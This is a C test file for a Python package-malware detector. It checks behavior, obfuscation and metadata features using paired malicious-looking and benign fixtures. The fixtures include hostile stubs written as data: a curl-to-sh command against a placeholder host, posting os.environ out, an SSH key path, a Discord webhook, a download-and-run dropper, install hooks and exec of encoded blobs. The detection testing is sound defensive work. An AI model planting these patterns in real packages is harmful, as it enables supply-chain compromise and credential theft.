/* Tests for the feature sets beyond the paper (issue 11): behavior, obfuscation, metadata2 on
 * in-memory packages, one malicious-looking and one benign-looking snippet per feature, with the
 * value and the evidence (rule, file, line) asserted. (yara: tests/test_featuresets_yara.c.) */
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "core/analysis/analysis.h"
#include "core/analysis/evidence.h"
#include "featuresets/featureset.h"
#include "tests/fixture_pkg.h"
#include "tests/harness.h"

#define MAX_COLS 64

struct result {
	double v[MAX_COLS];
	struct evidence_list ev;
	const struct featureset_type *t;
	int ok;
};

/* Extract set `name` (parameters `params`) on a package made of `pairs`. */
static void run(const char *name, const char *params, const char *const *pairs, struct result *r)
{
	const struct featureset_type *t = featureset_find(name);
	struct featureset *fs;
	struct fx_pkg fx;
	struct analysis_ctx ctx;
	struct analysis *a;
	struct diag d;
	char err[512];
	memset(r, 0, sizeof(*r));
	diag_init(&d);
	if (!t || !(fs = featureset_alloc(t, params, err, sizeof(err)))) {
		CHECK(0, "featureset_alloc(%s): %s", name, t ? err : "unknown");
		return;
	}
	r->t = fs->type;
	fx_init(&fx, pairs);
	fx_ctx(&ctx);
	a = fx_analyse(&fx, &ctx);
	if (a) {
		r->ok = fs->type->extract(fs->state, a, r->v, &r->ev, &d) == 0;
		if (!r->ok)
			CHECK(0, "%s: extract: %s", name, diag_message(&d));
		analysis_free(a);
	}
	featureset_free(fs);
	diag_release(&d);
}

static double col(const struct result *r, const char *feature)
{
	for (size_t k = 0; r->ok && k < r->t->n_features; k++)
		if (!strcmp(r->t->feature_names[k], feature))
			return r->v[k];
	return NAN;
}

/* 1 if an evidence item has rule `rule`, file `file` (NULL: any) and line `line` (0: any). */
static int has_ev(const struct result *r, const char *rule, const char *file, size_t line)
{
	for (size_t i = 0; i < r->ev.n; i++) {
		const struct evidence *e = &r->ev.v[i];
		if (e->rule && !strcmp(e->rule, rule) &&
		    (!file || (e->file && !strcmp(e->file, file))) && (!line || e->line == line))
			return 1;
	}
	return 0;
}

static void done(struct result *r)
{
	evidence_list_release(&r->ev);
}

/* One case: `feature` of set `set` on a package of `pairs` is `want`; when want != 0, evidence
 * `set.feature` at file:line (line 0: any line). */
static void expect(const char *set, const char *feature, const char *const *pairs, double want,
                   const char *file, size_t line, const char *what)
{
	struct result r;
	char rule[128];
	double got;
	run(set, NULL, pairs, &r);
	got = col(&r, feature);
	snprintf(rule, sizeof(rule), "%s.%s", set, feature);
	if (want != 0)
		CHECK(got == want && has_ev(&r, rule, file, line),
		      "%s = %g with evidence at %s:%zu (%s)", rule, got, file ? file : "*", line,
		      what);
	else
		CHECK(got == 0 && !has_ev(&r, rule, NULL, 0), "%s = 0 without evidence (%s): %g",
		      rule, what, got);
	done(&r);
}

#define PKG(...) ((const char *const[]){__VA_ARGS__, NULL})

static void test_install_time(void)
{
	expect("behavior", "setup_module_sinks",
	       PKG("setup.py", "import os\nfrom setuptools import setup\nos.system('id')\n"
	                       "setup(name='x')\n"),
	       1, "setup.py", 3, "os.system at module level of setup.py");
	expect("behavior", "setup_module_sinks",
	       PKG("setup.py", "from setuptools import setup\n"
	                       "long_description = open('README.md').read()\n"
	                       "setup(name='x', long_description=long_description)\n"),
	       0, NULL, 0, "reading the README");
	expect("behavior", "setup_module_stmts",
	       PKG("setup.py", "import os\nfrom setuptools import setup\nhere = os.getcwd()\n"
	                       "try:\n    import a\nexcept ImportError:\n    pass\n"
	                       "setup(name='x')\n"),
	       3, "setup.py", 3, "here =, try:, except: count; imports, pass, setup() do not");
	expect("behavior", "setup_module_stmts",
	       PKG("setup.py", "'''Doc.'''\nfrom setuptools import setup\nsetup(name='x')\n"), 0,
	       NULL, 0, "docstring, import and setup() only");
	expect("behavior", "setup_computed_args",
	       PKG("setup.py", "from setuptools import setup\n"
	                       "setup(name='x', version=get_version(),\n"
	                       "      install_requires=fetch_requirements())\n"),
	       2, "setup.py", 2, "two keyword arguments computed by calls");
	expect("behavior", "setup_computed_args",
	       PKG("setup.py", "from setuptools import setup\nsetup(name='x', version='1.0')\n"), 0,
	       NULL, 0, "literal arguments");
	{
		static const char setup[] = "from setuptools import setup\n"
		                            "from setuptools.command.install import install\n"
		                            "import subprocess\n"
		                            "class PostInstall(install):\n"
		                            "    def run(self):\n"
		                            "        install.run(self)\n"
		                            "        subprocess.Popen(['sh', '-c', 'id'])\n"
		                            "setup(name='x', cmdclass={'install': PostInstall})\n";
		expect("behavior", "cmdclass_overrides", PKG("setup.py", setup), 1, "setup.py", 4,
		       "a subclass of install");
		expect("behavior", "cmdclass_sinks", PKG("setup.py", setup), 1, "setup.py", 7,
		       "subprocess.Popen in its run()");
	}
	{
		static const char setup[] = "from setuptools import setup, Command\n"
		                            "import os\n"
		                            "class Custom(Command):\n"
		                            "    def run(self):\n"
		                            "        os.system('id')\n"
		                            "cmds = {'install': Custom}\n"
		                            "setup(name='x', cmdclass=cmds)\n";
		expect("behavior", "cmdclass_overrides", PKG("setup.py", setup), 1, "setup.py", 3,
		       "a Command registered through a name");
		expect("behavior", "cmdclass_sinks", PKG("setup.py", setup), 1, "setup.py", 5,
		       "os.system in the registered command");
	}
	expect("behavior", "cmdclass_sinks",
	       PKG("setup.py",
	           "from setuptools import setup\n"
	           "from setuptools.command.build_ext import build_ext\n"
	           "class B(build_ext):\n    def run(self):\n        build_ext.run(self)\n"
	           "setup(name='x', cmdclass={'build_ext': B})\n"),
	       0, NULL, 0, "a build_ext override without sinks");
	expect("behavior", "init_module_sinks",
	       PKG("setup.py", "", "pkg/__init__.py",
	           "import subprocess\nsubprocess.Popen(['curl', 'x'])\n"),
	       1, "pkg/__init__.py", 2, "a process at import time");
	expect("behavior", "init_module_sinks",
	       PKG("pkg/__init__.py", "import subprocess\ndef f():\n    subprocess.run(['ls'])\n",
	           "pkg/sub/__init__.py", "import os\nos.system('x')\n"),
	       0, NULL, 0, "inside a function, or a nested package");
	expect("behavior", "pth_import_lines",
	       PKG("setup.py", "", "evil.pth", "/usr/lib/x\nimport os; os.system('id')\n"), 1,
	       "evil.pth", 2, "an import line of a .pth file");
	expect("behavior", "pth_import_lines",
	       PKG("setup.py", "", "paths.pth", "/usr/lib/x\n./y\n"), 0, NULL, 0,
	       "a .pth of paths");
	expect("behavior", "pth_files", PKG("setup.py", "", "paths.pth", "/usr/lib/x\n"), 1,
	       "paths.pth", 0, "a .pth file is counted");
}

static void test_decode_exec(void)
{
	expect("behavior", "decode_exec",
	       PKG("m.py", "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n"), 1, "m.py", 2,
	       "exec(base64.b64decode(...))");
	expect("behavior", "decode_exec",
	       PKG("m.py", "import zlib as z, base64\n"
	                   "def go(s):\n"
	                   "    raw = base64.b64decode(s)\n"
	                   "    code = z.decompress(raw).decode()\n"
	                   "    compile(code, '<x>', 'exec')\n"),
	       1, "m.py", 5, "through two names in one function");
	expect("behavior", "decode_exec", PKG("m.py", "exec('print(1)'[::-1])\n"), 1, "m.py", 1,
	       "a reversed string");
	expect("behavior", "decode_exec",
	       PKG("m.py", "import base64, json\n"
	                   "def load(s):\n"
	                   "    data = base64.b64decode(s)\n"
	                   "    return json.loads(data)\n"
	                   "print(eval('1 + 1'))\n"),
	       0, NULL, 0, "decoding for json, eval of a literal");
	expect("behavior", "decode_exec",
	       PKG("m.py", "import base64\n"
	                   "x = base64.b64decode('aGk=')\n"
	                   "def f():\n"
	                   "    exec(x)\n"),
	       0, NULL, 0, "a module-level name used in a function is another scope");
}

static void test_cooccurrence_and_strings(void)
{
	static const char dropper[] = "import requests, subprocess\n"
	                              "def fetch(u):\n"
	                              "    r = requests.get(u)\n"
	                              "    with open('/tmp/x', 'wb') as f:\n"
	                              "        f.write(r.content)\n"
	                              "    subprocess.run(['/tmp/x'])\n"
	                              "def page(u):\n"
	                              "    return requests.get(u).text\n";
	expect("behavior", "scope_proc_net", PKG("m.py", dropper), 1, "m.py", 0,
	       "requests and subprocess in one function");
	expect("behavior", "scope_proc_net_write", PKG("m.py", dropper), 1, "m.py", 0,
	       "and open(..., 'wb')");
	expect("behavior", "scope_proc_net",
	       PKG("m.py", "import requests, subprocess\n"
	                   "def a():\n    return requests.get('u')\n"
	                   "def b():\n    subprocess.run(['ls'])\n"),
	       0, NULL, 0, "network and process in different functions");
	expect("behavior", "shell_strings",
	       PKG("m.py", "import os\nos.system('curl -s http://x.example/p | sh')\n"), 1, "m.py",
	       2, "curl piped to sh");
	expect("behavior", "shell_strings",
	       PKG("m.py", "def f():\n    '''Install with: curl -sSL https://x | sh'''\n"), 0, NULL,
	       0, "the same in a docstring");
	expect("behavior", "env_dump",
	       PKG("m.py", "import os, requests\nrequests.post('u', json=dict(os.environ))\n"), 1,
	       "m.py", 2, "the environment posted");
	expect("behavior", "env_dump",
	       PKG("m.py", "import os, subprocess\nsubprocess.run(['ls'], env=os.environ)\n"
	                   "home = os.environ.get('HOME')\n"),
	       0, NULL, 0, "env= of a process, one variable read");
	expect("behavior", "credential_paths",
	       PKG("m.py", "p = os.path.expanduser('~/.ssh/id_rsa')\n"), 1, "m.py", 1,
	       "an ssh key path");
	expect("behavior", "credential_paths", PKG("m.py", "p = 'uses ssh to connect'\n"), 0, NULL,
	       0, "the word ssh");
	expect("behavior", "exfil_endpoints",
	       PKG("m.py", "H = 'https://discord.com/api/webhooks/123/abc'\n"), 1, "m.py", 1,
	       "a Discord webhook");
	expect("behavior", "exfil_endpoints", PKG("m.py", "s.connect('45.9.1.3:4444')\n"), 1,
	       "m.py", 1, "a public ip:port");
	expect("behavior", "exfil_endpoints",
	       PKG("m.py", "URL = 'http://127.0.0.1:8000/'\nV = '1.2.3'\n"), 0, NULL, 0,
	       "loopback ip:port, a version");
	expect("behavior", "persistence",
	       PKG("m.py", "K = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"), 1, "m.py",
	       1, "a Run key");
	expect("behavior", "persistence", PKG("m.py", "K = 'Software\\\\Vendor\\\\Settings'\n"), 0,
	       NULL, 0, "another registry key");
}

static void test_obfuscation(void)
{
	static const char blob[] =
	    "import marshal, zlib\n"
	    "exec(marshal.loads(zlib.decompress(b'"
	    "x\\x9c\\xcbH\\xcd\\xc9\\xc9W(\\xcf/\\xcaI\\x01\\x00\\x1a\\x0b\\x04]"
	    "x\\x9c\\xcbH\\xcd\\xc9\\xc9W(\\xcf/\\xcaI\\x01\\x00\\x1a\\x0b\\x04]"
	    "x\\x9c\\xcbH\\xcd\\xc9\\xc9W(\\xcf/\\xcaI\\x01\\x00\\x1a\\x0b\\x04]"
	    "x\\x9c\\xcbH\\xcd\\xc9\\xc9W(\\xcf/\\xcaI\\x01\\x00\\x1a\\x0b\\x04]"
	    "x\\x9c\\xcbH\\xcd\\xc9\\xc9W(\\xcf/\\xcaI\\x01\\x00\\x1a\\x0b\\x04]"
	    "x\\x9c\\xcbH\\xcd\\xc9\\xc9W(\\xcf/\\xcaI\\x01\\x00\\x1a\\x0b\\x04]"
	    "x\\x9c\\xcbH\\xcd\\xc9\\xc9W(\\xcf/\\xcaI\\x01\\x00\\x1a\\x0b\\x04]"
	    "x\\x9c\\xcbH\\xcd\\xc9\\xc9W(\\xcf/\\xcaI\\x01\\x00\\x1a\\x0b\\x04]"
	    "')))\n";
	struct result r;
	run("obfuscation", NULL, PKG("m.py", blob), &r);
	CHECK(col(&r, "marshal_zlib_blobs") == 1 &&
	          has_ev(&r, "obfuscation.marshal_zlib_blobs", "m.py", 2),
	      "a marshal/zlib blob (%g)", col(&r, "marshal_zlib_blobs"));
	CHECK(col(&r, "escape_density") > 0.2 &&
	          has_ev(&r, "obfuscation.escape_density", "m.py", 2),
	      "escape density %g", col(&r, "escape_density"));
	done(&r);
	run("obfuscation", NULL,
	    PKG("m.py", "import zlib\nzlib.decompress(data)\ns = 'plain text, no escapes here'\n"),
	    &r);
	CHECK(col(&r, "marshal_zlib_blobs") == 0 && col(&r, "escape_density") == 0,
	      "no blob, no escapes");
	done(&r);
	/* entropy: a random-looking base64 literal vs English */
	run("obfuscation", NULL,
	    PKG("m.py", "K = 'Qm9vdHN0cmFwOnhZ3k9pR2Q0LzFhTmVWb2pXcUVzK1Z4cU1HYjhKN2xLd3Bz'\n"
	                "T = 'the quick brown fox jumps over the lazy dog again'\n"),
	    &r);
	CHECK(col(&r, "str_entropy_max") > 5.0 && col(&r, "str_high_entropy_share") == 0.5 &&
	          has_ev(&r, "obfuscation.str_entropy_max", "m.py", 1),
	      "entropy max %g, high share %g", col(&r, "str_entropy_max"),
	      col(&r, "str_high_entropy_share"));
	done(&r);
	run("obfuscation", NULL,
	    PKG("m.py", "T = 'the quick brown fox jumps over the lazy dog again'\n"), &r);
	CHECK(col(&r, "str_entropy_max") < 4.5 && col(&r, "str_high_entropy_share") == 0 &&
	          !has_ev(&r, "obfuscation.str_entropy_max", NULL, 0),
	      "English: entropy %g, no evidence below entropy_high", col(&r, "str_entropy_max"));
	done(&r);
	/* identifiers */
	run("obfuscation", NULL,
	    PKG("m.py",
	        "\xef\xbd\x85\xef\xbd\x98\xef\xbd\x85\xef\xbd\x83('x')\n" /* fullwidth exec */
	        "O0O0 = 1\nl1l1 = O0O0\n"),
	    &r);
	CHECK(col(&r, "nfkc_changed_identifiers") == 1 && col(&r, "nonascii_identifiers") == 1 &&
	          has_ev(&r, "obfuscation.nfkc_changed_identifiers", "m.py", 0),
	      "a fullwidth exec: changed by NFKC");
	done(&r);
	run("obfuscation", NULL, PKG("m.py", "def \xc3\xa9t\xc3\xa9():\n    return 1\n"), &r);
	CHECK(col(&r, "nfkc_changed_identifiers") == 0 && col(&r, "nonascii_identifiers") == 1,
	      "an accented name is non-ASCII but NFKC-stable");
	done(&r);
	run("obfuscation", NULL, PKG("m.py", "a = b = c = 1\nlonger_name = a\n"), &r);
	CHECK(fabs(col(&r, "short_identifier_share") - 0.8) < 1e-12,
	      "short identifiers: 4 of 5 (%g)", col(&r, "short_identifier_share"));
	done(&r);
	/* one long line */
	{
		char *big = malloc(6002);
		if (big) {
			memcpy(big, "x='", 3);
			memset(big + 3, 'A', 5996);
			memcpy(big + 5999, "'\n", 3);
			run("obfuscation", NULL, PKG("m.py", big), &r);
			CHECK(col(&r, "long_single_line_files") == 1 &&
			          fabs(col(&r, "longest_line_log") - log1p(6000)) < 1e-9 &&
			          has_ev(&r, "obfuscation.long_single_line_files", "m.py", 0),
			      "a 6000-byte one-line file");
			done(&r);
			free(big);
		}
	}
	run("obfuscation", NULL, PKG("m.py", "x = 1\n"), &r);
	CHECK(col(&r, "long_single_line_files") == 0 &&
	          !has_ev(&r, "obfuscation.longest_line_log", NULL, 0),
	      "a short file: no long-line evidence");
	done(&r);
	/* members */
	run("obfuscation", NULL,
	    PKG("pkg/__init__.py", "", "pkg/core.pyc", NULL, "pkg/__pycache__/m.cpython-311.pyc",
	        NULL, "pkg/m.py", "x = 1\n", "pkg/pytransform/__init__.py", "", "pkg/bin/tool.exe",
	        NULL, "pkg/data.txt",
	        "\x7f"
	        "ELF\x02\x01\x01"),
	    &r);
	CHECK(col(&r, "pyc_only_modules") == 1 &&
	          has_ev(&r, "obfuscation.pyc_only_modules", "pkg/core.pyc", 0),
	      "core.pyc has no source; m.cpython-311.pyc has pkg/m.py (%g)",
	      col(&r, "pyc_only_modules"));
	CHECK(col(&r, "pyarmor") == 1 && has_ev(&r, "obfuscation.pyarmor", NULL, 0),
	      "a pytransform member");
	CHECK(col(&r, "embedded_executables") == 2 &&
	          has_ev(&r, "obfuscation.embedded_executables", "pkg/data.txt", 0) &&
	          has_ev(&r, "obfuscation.embedded_executables", "pkg/bin/tool.exe", 0),
	      "an ELF disguised as text and an .exe (%g)", col(&r, "embedded_executables"));
	done(&r);
	run("obfuscation", NULL,
	    PKG("pkg/_speedups.cpython-311-x86_64-linux-gnu.so", NULL, "pkg/__init__.py", ""), &r);
	CHECK(col(&r, "embedded_executables") == 0, "an extension module is not an executable");
	done(&r);
}

static void test_metadata2(void)
{
	static const char pkginfo_bad[] = "Metadata-Version: 2.1\nName: reqeusts\nVersion: 0.0.1\n"
	                                  "Summary: reqeusts\n";
	static const char pkginfo_good[] =
	    "Metadata-Version: 2.1\nName: Hello-World-Tool\nVersion: 2.4.1\n"
	    "Summary: A friendly tool\nAuthor: A. Person\nAuthor-email: a@example.org\n"
	    "Classifier: Programming Language :: Python\nClassifier: License :: OSI Approved\n"
	    "Requires-Dist: requests\n\nA long description of the tool.\n";
	struct result r;
	run("metadata2", NULL, PKG("PKG-INFO", pkginfo_bad, "setup.py", ""), &r);
	CHECK(col(&r, "version_0_0_x") == 1 && col(&r, "version_major_ge_99") == 0 &&
	          col(&r, "version_single") == 0 &&
	          has_ev(&r, "metadata2.version_0_0_x", "PKG-INFO", 0),
	      "0.0.1: version_0_0_x");
	CHECK(col(&r, "summary_is_name") == 1 && col(&r, "summary_empty") == 0,
	      "summary equals the name");
	CHECK(col(&r, "has_author") == 0 && col(&r, "has_author_email") == 0 &&
	          col(&r, "n_classifiers") == 0 && col(&r, "n_requires") == 0 &&
	          col(&r, "description_len_log") == 0,
	      "no author, e-mail, classifiers, requirements or description");
	CHECK(col(&r, "name_typo") == 1 && has_ev(&r, "metadata2.name_typo", "PKG-INFO", 0),
	      "reqeusts is one transposition from requests");
	done(&r);
	run("metadata2", NULL, PKG("PKG-INFO", pkginfo_good, "setup.py", ""), &r);
	CHECK(col(&r, "version_0_0_x") == 0 && col(&r, "summary_is_name") == 0 &&
	          col(&r, "has_author") == 1 && col(&r, "has_author_email") == 1 &&
	          col(&r, "n_classifiers") == 2 && col(&r, "n_requires") == 1 &&
	          fabs(col(&r, "description_len_log") - log1p(32)) < 1e-9 &&
	          col(&r, "name_typo") == 0 && col(&r, "name_variant") == 0,
	      "an ordinary project: every column as written");
	done(&r);
	run("metadata2", NULL,
	    PKG("PKG-INFO", "Metadata-Version: 2.1\nName: requests\nVersion: 99.0\n", "setup.py",
	        ""),
	    &r);
	CHECK(col(&r, "name_typo") == 0 && col(&r, "name_variant") == 0 &&
	          col(&r, "version_major_ge_99") == 1 && col(&r, "summary_empty") == 1,
	      "a known name never matches itself; 99.0 is a probe's version (%g %g %g %g)",
	      col(&r, "name_typo"), col(&r, "name_variant"), col(&r, "version_major_ge_99"),
	      col(&r, "summary_empty"));
	done(&r);
	run("metadata2", NULL,
	    PKG("PKG-INFO", "Metadata-Version: 2.1\nName: requestskit\nVersion: 1.0\n", "setup.py",
	        ""),
	    &r);
	CHECK(col(&r, "name_typo") == 0 && !has_ev(&r, "metadata2.name_typo", NULL, 0),
	      "requestskit: requests plus three characters at one end is another project, no typo");
	done(&r);
	run("metadata2", NULL,
	    PKG("PKG-INFO", "Metadata-Version: 2.1\nName: xrequest\nVersion: 1.0\n", "setup.py",
	        ""),
	    &r);
	CHECK(col(&r, "name_typo") == 1 && has_ev(&r, "metadata2.name_typo", "PKG-INFO", 0),
	      "xrequest: two edits at both ends of requests, a typo");
	done(&r);
	run("metadata2", NULL,
	    PKG("PKG-INFO", "Metadata-Version: 2.1\nName: requests2\nVersion: 7\n", "setup.py", ""),
	    &r);
	CHECK(col(&r, "name_variant") == 1 && col(&r, "version_single") == 1 &&
	          has_ev(&r, "metadata2.name_variant", "PKG-INFO", 0),
	      "requests2 is requests with a digit; version 7 is one number");
	done(&r);
	run("metadata2", NULL, PKG("setup.py", ""), &r);
	CHECK(isnan(col(&r, "version_0_0_x")) && isnan(col(&r, "name_typo")),
	      "no metadata file: not applicable");
	done(&r);
}

int main(void)
{
	fx_load_shared();
	test_install_time();
	test_decode_exec();
	test_cooccurrence_and_strings();
	test_obfuscation();
	test_metadata2();
	fx_free_shared();
	return harness_done();
}
